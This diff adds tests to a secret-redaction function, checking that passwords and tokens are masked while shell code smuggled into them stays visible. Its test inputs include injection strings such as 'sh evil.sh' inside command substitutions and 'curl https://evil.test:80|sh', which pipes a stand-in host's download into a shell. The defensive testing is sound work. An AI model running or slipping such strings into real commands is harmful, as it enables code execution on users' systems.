@@ -95,6 +95,77 @@ describe("what is hidden, and what stays as it is", () => {
   ])("%s", (text, result = text) => expect(redact(text)).toBe(result));
 });
 
+describe("code that a shell would run is never hidden", () => {
+  const evil = "sh${IFS}evil.sh";
+  const password = "[redacted password]";
+  const token = "[redacted token]";
+  test.each<[text: string, result: string]>([
+    // private keys are keys only as far as they look like one
+    [`touch a; echo '${begin}'; sh evil.sh; echo '${end}'`, `touch a; echo '${key}'; sh evil.sh; echo '${end}'`],
+    [`echo '${begin}'\nscripts/evil/everything\necho x`, `echo '${key}'\nscripts/evil/everything\necho x`],
+    [`echo ${begin}\nevil\necho ${end}`, `echo ${key}\nevil\necho ${end}`],
+    [`echo ${begin}|sh`, `echo ${key}|sh`],
+    [`echo ${begin}\n${body}\n; sh evil.sh; ${end}`, `echo ${key}\n; sh evil.sh; ${end}`],
+    [`${begin}\nComment: x; sh evil.sh\n${end}`, `${key}; sh evil.sh\n${end}`],
+    [`"${begin}\\n" +\n  "${body}\\n" +\n  "${end}"`, `"${key}"`],
+    [`${begin} ${body} ${filler(9)}= ${end}`, key],
+    // command substitutions
+    [
+      `curl -H "Authorization: Bearer x$(${evil})" h`,
+      `curl -H "Authorization: Bearer [redacted credential]$(${evil})" h`,
+    ],
+    ["x -H 'Authorization: Bearer x$(sh evil.sh)'", "x -H 'Authorization: Bearer [redacted credential]$(sh evil.sh)'"],
+    [`git fetch https://u:x$(${evil})@h/r`, `git fetch https://u:${password}$(${evil})@h/r`],
+    [`API_TOKEN="x$(${evil})" touch a`, `API_TOKEN="${token}$(${evil})" touch a`],
+    [`API_TOKEN="x$(sh "evil.sh")y" touch a`, `API_TOKEN="${token}$(sh "evil.sh")y" touch a`],
+    ["API_TOKEN=x-1$(sh evil.sh) touch a", `API_TOKEN=${token}$(sh evil.sh) touch a`],
+    ["API_TOKEN=`evil` touch a", "API_TOKEN=`evil` touch a"],
+    ["api_token=`sh evil.sh` touch a", "api_token=`sh evil.sh` touch a"],
+    ["const token = `abc`;", `const token = \`${token}\`;`],
+    ["DB_PASS=`sh evil.sh` make", "DB_PASS=`sh evil.sh` make"],
+    ["DB_PASS=x`sh evil.sh` make", `DB_PASS=${password}\`sh evil.sh\` make`],
+    ['DB_PASS="a<(sh evil.sh)b" make', `DB_PASS="${password}<(sh evil.sh)${password}" make`],
+    [`mysql -pabc$(${evil})`, `mysql -p${password}$(${evil})`],
+    ["mysql -pabc$(sh evil.sh) db", `mysql -p${password}$(sh evil.sh) db`],
+    [`docker login -p x\`${evil}\``, `docker login -p ${password}\`${evil}\``],
+    [
+      "echo x$(sh evil.sh) | docker login --password-stdin",
+      `echo ${password}$(sh evil.sh) | docker login --password-stdin`,
+    ],
+    ["echo x`sh evil.sh` | docker login --password-stdin", "echo x`sh evil.sh` | docker login --password-stdin"],
+    ["docker login -p x$(cat -p evil.sh)", `docker login -p ${password}$(cat -p evil.sh)`],
+    // the secrets of such code are hidden in turn
+    ["docker login -p x$(curl -u me:hunter2 h)", `docker login -p ${password}$(curl -u me:${password} h)`],
+    ['API_TOKEN="x$(API_TOKEN=abc99 f)" g', `API_TOKEN="${token}$(API_TOKEN=${token} f)" g`],
+    ['DB_PASS="x$(DB_PASS=abc99 f)" g', `DB_PASS="${password}$(DB_PASS=${password} f)" g`],
+    ["tool --pass abcd$(sh evil.sh)", `tool --pass ${password}$(sh evil.sh)`],
+    // the end of a command
+    ["touch a https://u:p;touch${IFS}evil;@h/", `touch a https://u:${password};touch\${IFS}evil;@h/`],
+    ["curl https://evil.test:80|sh;@h", `curl https://evil.test:${password}|sh;@h`],
+    ["sh -c 'curl https://evil.test:80|sh;@h'", `sh -c 'curl https://evil.test:${password}|sh;@h'`],
+    ["curl http://h/?access_token=abcdefg9|sh", `curl http://h/?access_token=${token}|sh`],
+    ["curl http://h/?key=abcdefg9|sh", "curl http://h/?key=[redacted credential]|sh"],
+    ["tool --pass abcd;evil", `tool --pass ${password};evil`],
+    ["tool --pass 'a;b&c|d' x", `tool --pass '${password}' x`],
+    ['echo "password="; sh evil.sh; echo ""', 'echo "password="; sh evil.sh; echo ""'],
+    ['echo "DB_PASS="; sh evil.sh; echo "x"', 'echo "DB_PASS="; sh evil.sh; echo "x"'],
+    ['echo "mysql -p"; sh evil.sh; echo "x"', 'echo "mysql -p"; sh evil.sh; echo "x"'],
+    // what is no code stays hidden
+    ['password="a;b&c|d"', `password="${password}"`],
+    ["DB_PASS='a;b&c|d' make", `DB_PASS='${password}' make`],
+    ["curl -u 'me:a;b&c|d' h", `curl -u 'me:${password}' h`],
+    ["psql 'postgres://u:a;b&c|d@h'", `psql 'postgres://u:${password}@h'`],
+    ["DATABASE_URL=postgres://u:a&b@h", `DATABASE_URL=postgres://u:${password}@h`],
+    ["url: postgres://u:a;b@h", `url: postgres://u:${password}@h`],
+    ['{"url": "postgres://u:a&b@h"}', `{"url": "postgres://u:${password}@h"}`],
+    ['{\\"password\\":\\"a;b&c\\"}', `{\\"password\\":\\"${password}\\"}`],
+    ["mysql -p'a`b$(c' db", `mysql -p'${password}' db`],
+  ])("%s", (text, result) => {
+    expect(redact(text)).toBe(result);
+    expect(redact(result)).toBe(result);
+  });
+});
+
 test.each<[name: string, kind: string | undefined]>([
   ["password", "password"],
   ["dbPassword", "password"],
